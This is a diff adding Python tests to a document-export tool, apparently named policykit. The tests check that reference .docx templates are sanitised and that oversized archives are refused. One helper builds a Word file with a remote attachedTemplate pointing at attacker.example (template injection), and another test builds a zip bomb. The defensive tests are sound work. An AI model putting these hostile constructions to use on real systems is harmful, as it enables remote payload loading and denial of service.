@@ -304,3 +304,73 @@ def test_a_broken_png_logo_is_named_with_its_cause(project: Path, command: list[
     assert_refused(done, "the logo `logo.png` is not a readable PNG image")
     assert done.returncode == 2
     assert not (project / "out").exists() or not any((project / "out").iterdir())
+
+
+ATTACHED_TEMPLATE = (
+    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+)
+
+
+def hostile_reference() -> bytes:
+    """python-docx's own template with a remote attachedTemplate (Word's template injection),
+    as well as the thumbnail and customXml that it carries anyway."""
+    import io
+
+    import docx
+    from docx.oxml.ns import qn
+    from lxml import etree
+
+    word = docx.Document()
+    settings = word.part.part_related_by(
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"
+    )
+    rid = settings.rels.get_or_add_ext_rel(ATTACHED_TEMPLATE, "http://attacker.example/evil.dotm")
+    etree.SubElement(settings.element, qn("w:attachedTemplate")).set(qn("r:id"), rid)
+    out = io.BytesIO()
+    word.save(out)
+    return out.getvalue()
+
+
+def test_a_reference_docx_gives_its_look_and_nothing_else() -> None:
+    import io
+    import zipfile
+
+    from policykit.writing.docx import write_docx
+    from policykit.writing.layout import ExportOptions, Templates, layout
+    from tests.examples import policy, project
+
+    reference = hostile_reference()
+    assert b"attacker.example" in b"".join(
+        zipfile.ZipFile(io.BytesIO(reference)).read(n)
+        for n in zipfile.ZipFile(io.BytesIO(reference)).namelist()
+    )
+    options = ExportOptions(templates=Templates(reference_docx=reference))
+    data = write_docx(layout(policy(), project(), options))
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        names = package.namelist()
+        everything = b"".join(package.read(name) for name in names)
+    assert b"attacker.example" not in everything and b"attachedTemplate" not in everything
+    assert not any(n.startswith(("customXml/", "docProps/thumbnail")) for n in names), names
+    assert "word/styles.xml" in names and "word/settings.xml" in names
+
+
+def test_a_reference_docx_that_unpacks_to_gigabytes_is_refused() -> None:
+    import io
+    import zipfile
+
+    from policykit.writing.docx import ReferenceDocxError, write_docx
+    from policykit.writing.layout import ExportOptions, Templates, layout
+    from tests.examples import policy, project
+
+    bomb = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(hostile_reference())) as source,
+        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for name in source.namelist():
+            target.writestr(name, source.read(name))
+        target.writestr("word/media/huge.bin", b"\0" * 30_000_000)
+    assert len(bomb.getvalue()) < 1_000_000
+    options = ExportOptions(templates=Templates(reference_docx=bomb.getvalue()))
+    with pytest.raises(ReferenceDocxError, match="unpacks to"):
+        write_docx(layout(policy(), project(), options))
